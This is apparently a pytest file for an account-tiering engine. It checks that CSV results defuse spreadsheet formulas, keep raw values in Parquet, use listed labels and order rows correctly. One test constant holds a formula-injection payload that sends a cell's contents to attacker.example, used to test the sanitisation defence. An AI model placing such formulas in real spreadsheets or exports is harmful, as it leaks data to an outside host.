"""The results folder: Parquet as computed, the CSV safe to open in a spreadsheet."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow.parquet as pq

from tests.engine.conftest import AS_OF, direct_score_model, table_of
from tierwise.engine import score_accounts, write_results

HOSTILE = '=HYPERLINK("http://attacker.example/?x="&A1,"Open")'


def _run(tmp_path: Path) -> Path:
    model = direct_score_model(
        {"score": 1}, [{"key": "tier_1", "name": "One", "min_score": 0}]
    )
    rows = [
        {"account_id": "a", "name": HOSTILE, "score_input": 10},
        {"account_id": "+b", "name": "  @Acme Ops", "score_input": 20},
        {"account_id": "-1250", "name": "Negative Revenue Test", "score_input": 30},
        {"account_id": "d", "name": "Plain\x01 Name", "score_input": 40},
    ]
    run = score_accounts(model, table_of(rows), AS_OF)
    return write_results(run, tmp_path / "out")


def test_case_18_the_results_csv_defuses_formulas_in_ids_and_names(
    tmp_path: Path,
) -> None:
    out = _run(tmp_path)

    with (out / "tiers.csv").open(encoding="utf-8", newline="") as handle:
        shown = {row["account_id"]: row["name"] for row in csv.DictReader(handle)}

    assert shown == {
        "a": "'" + HOSTILE,
        "'+b": "'  @Acme Ops",
        "-1250": "Negative Revenue Test",
        "d": "Plain Name",
    }


def test_the_parquet_results_keep_values_as_they_came(tmp_path: Path) -> None:
    out = _run(tmp_path)

    names = set(pq.read_table(out / "tiers.parquet").column("name").to_pylist())

    assert HOSTILE in names and "  @Acme Ops" in names


def test_no_csv_is_written_when_asked_not_to(tmp_path: Path) -> None:
    model = direct_score_model(
        {"score": 1}, [{"key": "tier_1", "name": "One", "min_score": 0}]
    )
    run = score_accounts(
        model, table_of([{"account_id": "a", "name": "A", "score_input": 1}]), AS_OF
    )

    out = write_results(run, tmp_path / "out", csv=False)

    assert sorted(path.name for path in out.iterdir()) == ["tiers.parquet"]


def test_every_tier_and_reason_the_query_can_write_is_a_listed_label() -> None:
    # The run writes these columns through DuckDB enums of result_labels; a
    # text the query can produce but the list lacks would stop the run.
    from sqlglot import exp

    from tests.engine.test_gates import GATED_TIERS
    from tierwise.engine.compile import compile_model
    from tierwise.engine.placement import result_labels

    model = direct_score_model({"score": 1}, GATED_TIERS)
    pins = {"a": "tier_1", "b": "tier_3"}
    compiled = compile_model(model, AS_OF, ["account_id", "name"], pins=pins)
    labels = result_labels(model.active_tiers())
    written = {
        select.alias_or_name: select for select in compiled.steps["placed"].selects
    }
    written["tier_name"] = next(
        s for s in compiled.query.find_all(exp.Alias) if s.alias == "tier_name"
    )

    for column, listed in labels.items():
        texts = {
            literal.this
            for literal in written[column].find_all(exp.Literal)
            if literal.is_string and not isinstance(literal.parent, exp.Predicate)
        }
        assert texts, column
        assert texts <= set(listed), (column, texts - set(listed))
    assert "missing_must_have:exec_sponsor" in labels["reason"]
    assert "disqualified:entrenched_competitor" in labels["reason"]


ORDERED_TIERS = [
    # Keys that sort the other way round as text: the model's order wins.
    {"key": "gold", "name": "Gold", "min_score": 60, "max_accounts": 2},
    {"key": "bronze", "name": "Bronze", "min_score": 40},
]


def test_results_for_people_list_tiers_then_rank_then_total_then_id(
    tmp_path: Path,
) -> None:
    model = direct_score_model({"score": 1}, ORDERED_TIERS)
    scores = {"z": 10, "y": 35, "x": 35, "w": 90, "v": 70, "u": 65, "t": 50, "s": 0}
    rows = [{"account_id": a, "name": a, "score_input": n} for a, n in scores.items()]
    rows.append({"account_id": "r", "name": "r", "score_input": None})
    run = score_accounts(model, table_of(rows), AS_OF)
    out = write_results(run, tmp_path / "out")

    with (out / "tiers.csv").open(encoding="utf-8", newline="") as handle:
        listed = [(row["tier"], row["account_id"]) for row in csv.DictReader(handle)]

    expected = [
        ("gold", "w"),
        ("gold", "v"),
        ("bronze", "u"),
        ("bronze", "t"),
        ("unassigned", "x"),
        ("unassigned", "y"),
        ("unassigned", "z"),
        ("unassigned", "s"),
        ("unassigned", "r"),
    ]
    assert listed == expected
    table = run.table().select(["tier", "account_id"]).to_pylist()
    assert [(row["tier"], row["account_id"]) for row in table] == expected


def test_a_run_without_csv_removes_an_older_runs_csv(tmp_path: Path) -> None:
    """A tiers.csv left from an earlier run would not match the new results."""
    out = _run(tmp_path)
    model = direct_score_model(
        {"score": 1}, [{"key": "tier_1", "name": "One", "min_score": 0}]
    )
    run = score_accounts(
        model, table_of([{"account_id": "z", "name": "Z", "score_input": 1}]), AS_OF
    )

    write_results(run, out, csv=False)

    assert sorted(path.name for path in out.iterdir()) == ["tiers.parquet"]
